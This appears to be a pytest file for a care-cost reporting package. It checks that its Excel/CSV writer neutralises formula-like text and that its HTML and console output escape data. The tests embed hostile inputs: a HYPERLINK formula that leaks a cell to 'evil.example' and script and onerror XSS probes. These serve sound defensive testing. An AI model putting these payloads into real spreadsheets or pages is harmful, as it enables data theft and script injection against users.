"""The reports layer: declared sections, `yoc report`, the one workbook/CSV writer (numbers as
numbers, formula-like text neutralised), escaping in HTML and on the console."""

from __future__ import annotations

import io
import re
import zipfile

import pandas as pd
import pytest

from tests import analysis_data
from yearofcare import cli
from yearofcare.population.analysis import AnalysisOptions, run_analyses
from yearofcare.reports import Section, Sheet, all_sections
from yearofcare.reports import blocks as rb
from yearofcare.reports.page import Page, render_block, write_page
from yearofcare.reports.provenance import versions
from yearofcare.reports.render import Reader, render_section, what, write_report
from yearofcare.reports.workbook import workbook_bytes, write_csv, write_workbook

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _sheet_xml(path, n: int) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{n}.xml").decode()


def test_provenance_states_the_price_uplift_and_its_factors():
    """Issue 9: outputs state the uplift moving unit costs to the activity's year (as `yoc
    build` records it), each price year's factors readable apart."""
    build = {
        "unit_costs": ["ncc_2024_25", "pssru_2025"],
        "price_uplift": "nhs_cost_uplift_2025_26",
        "price_uplift_factors": {"2016/17": {"2024/25": 1.29832}, "2024/25": {"2024/25": 1.0}},
        "price_uplift_held_years": [],
        "years": [2024],
    }
    assert versions(build) == (
        "unit_costs = ncc_2024_25, pssru_2025, price_uplift = nhs_cost_uplift_2025_26, "
        "price_uplift_factors = 2016/17: (2024/25: 1.29832); 2024/25: (2024/25: 1.0), "
        "price_uplift_held_years = none"
    )


def test_every_registered_section_has_its_words_and_a_unique_id():
    sections = all_sections()
    assert len({s.id for s in sections}) == len(sections)
    assert {"summary", "priority1", "analysis_cost_by_ltc_age"} <= {s.id for s in sections}
    for s in sections:
        assert len(what(s)) > 40, s.id  # the template's "what this shows" paragraph


def test_formula_like_text_from_data_is_written_as_text(tmp_path):
    frame = pd.DataFrame(
        {
            "name": [ATTACK, "+44 20", "-1", "@SUM(A1)", "\tx", "plain"],
            "people": [10, 20, 30, 40, 50, 60],
            "share": [0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
        }
    )
    xlsx = write_workbook(
        tmp_path / "t.xlsx", [Sheet("t", frame, formats={"share": "pct"})], [("Report", ATTACK)]
    )
    sheet = _sheet_xml(xlsx, 2)
    about = _sheet_xml(xlsx, 1)
    assert "<f>" not in sheet and "<f>" not in about  # no formula anywhere
    assert "HYPERLINK" not in sheet  # text lives in the shared strings, typed as a string
    with zipfile.ZipFile(xlsx) as z:
        strings = z.read("xl/sharedStrings.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "HYPERLINK" in strings and 'quotePrefix="1"' in styles
    # the six formula-like or plain names are string cells; counts are numbers (no t="s")
    assert len(re.findall(r'<c r="A[2-7]"[^>]*t="s"', sheet)) == 6
    assert re.search(r'<c r="B2"[^>]*><v>10</v>', sheet)
    quoted = re.findall(r'<c r="A([2-7])" s="(\d+)"', sheet)
    assert {r for r, _ in quoted} == {"2", "3", "4", "5", "6"}  # all but "plain" quote-prefixed

    csv = write_csv(tmp_path / "t.csv", frame).read_text(encoding="utf-8-sig").splitlines()
    assert csv[1].startswith("\"'=HYPERLINK(")
    assert [line.split(",")[0] for line in csv[2:5]] == ["'+44 20", "'-1", "'@SUM(A1)"]
    assert csv[-1] == "plain,60,0.6"


def test_suppressed_cells_show_the_mark_and_dates_are_dates(tmp_path):
    frame = pd.DataFrame(
        {
            "month": pd.to_datetime(["2024-04-01", "2024-05-01"]),
            "people": [None, 15.0],
            "suppressed": [True, False],
        }
    )
    xlsx = write_workbook(tmp_path / "s.xlsx", [Sheet("s", frame)], [])
    with zipfile.ZipFile(xlsx) as z:
        strings = z.read("xl/sharedStrings.xml").decode()
    sheet = _sheet_xml(xlsx, 2)
    assert "<t>*</t>" in strings
    assert re.search(r'<c r="A2" s="\d+"><v>45383</v>', sheet)  # 1 April 2024 as a date serial
    assert '<pane ySplit="1"' in sheet  # frozen header


def test_data_in_html_is_escaped(duck_store, tmp_path):
    from tests.spec import load

    load(duck_store, {"practice": [{"practice_code": "<script>alert(1)</script>"}]})
    section = Section(
        id="probe",
        title="Probe <b>",
        stage="probe",
        command="yoc probe",
        tables=("practice",),
        template="yearofcare.quality:summary.html.j2",
        blocks=lambda d: [rb.table(d.frames["practice"], [rb.Col("practice_code", "Code")])],
        finding=lambda d: "<img src=x onerror=alert(1)>",
    )
    r = render_section(Reader(duck_store), section, 1)
    page = write_page(tmp_path / "p.html", Page(title="<i>t</i>"), [("probe", "<u>", r.html)])
    html = page.read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img" not in html and "Probe &lt;b&gt;" in html and "<i>t</i>" not in html


def test_render_block_is_plain_text():
    text = render_block("yearofcare.quality:about.html.j2", "privacy", {"suppressed": "*"})
    assert "shown as *" in text and "<" not in text


@pytest.fixture(scope="module")
def analysed_only(tmp_path_factory):
    store = analysis_data.fabricated_store(tmp_path_factory.mktemp("only"), 600)
    run_analyses(store, AnalysisOptions.build())
    return store


def test_yoc_report_renders_what_exists_and_names_the_command_for_the_rest(analysed_only, tmp_path):
    files = write_report(analysed_only, tmp_path / "all")
    html = files.html.read_text(encoding="utf-8")
    assert 'id="analysis_cost_by_ltc_age"' in html and "<svg" in html
    # every section but the analyses' names the command that writes its tables
    others = {s.id: s.command for s in all_sections() if s.stage != "analyse"}
    assert {
        k: others[k] for k in ("summary", "priority1", "priority2", "priority3")
    } == dict.fromkeys(("summary", "priority1", "priority2", "priority3"), "yoc quality")
    assert files.missing == others
    assert html.count("Not available yet.") == len(others) and "<code>yoc quality</code>" in html
    assert "yoc analyse run" in html and "yoc_ltc_catalogue_2026.csv" in html
    assert "<script" not in html.lower() and "<link" not in html.lower()
    with zipfile.ZipFile(files.xlsx) as z:
        names = re.findall(r'<sheet name="([^"]+)"', z.read("xl/workbook.xml").decode())
    assert names[0] == "About" and "analysis_cost_by_ltc_age" in names
    assert (tmp_path / "all" / "charts" / "analysis_cost_by_ltc_age.vl.json").is_file()


def test_cli_report_and_literal_console_output(analysed_only, tmp_path, capsys):
    data_dir = analysed_only.engine.data_dir
    analysed_only.close()
    code = cli.main(["--data-dir", str(data_dir), "report", "--out", str(tmp_path / "r")])
    printed = capsys.readouterr().out.replace("\n", "")
    assert code == 0 and "run `yoc quality`" in printed and "report.html" in printed
    # a user error quoting a value that looks like console markup prints the value as it is
    code = cli.main(["--data-dir", str(tmp_path / "d"), "analyse", "--by", "[bold]x[/bold]"])
    err = capsys.readouterr().err.replace("\n", "")
    assert code == 2 and "'[bold]x[/bold]'" in err


def test_web_downloads_use_the_one_writer():
    from yearofcare.web import export
    from yearofcare.web.registry import Column, TableView

    frame = pd.DataFrame({"practice_name": [ATTACK, "Ash"], "people": [None, 120.0]})
    frame["suppressed"] = [True, False]
    t = TableView(
        "list",
        "Practices",
        [Column("practice_name", "Practice"), Column("people", "People", "count")],
        frame,
    )
    csv = export.to_csv(t).decode("utf-8-sig").splitlines()
    assert csv[1].startswith("\"'=HYPERLINK(") and csv[1].endswith(",*,True")
    sheet = Sheet("list", frame, labels={"practice_name": "Practice"})
    with zipfile.ZipFile(io.BytesIO(workbook_bytes([sheet], [("Page", "x")]))) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet2.xml").decode()
        assert "<t>Practice</t>" in z.read("xl/sharedStrings.xml").decode()
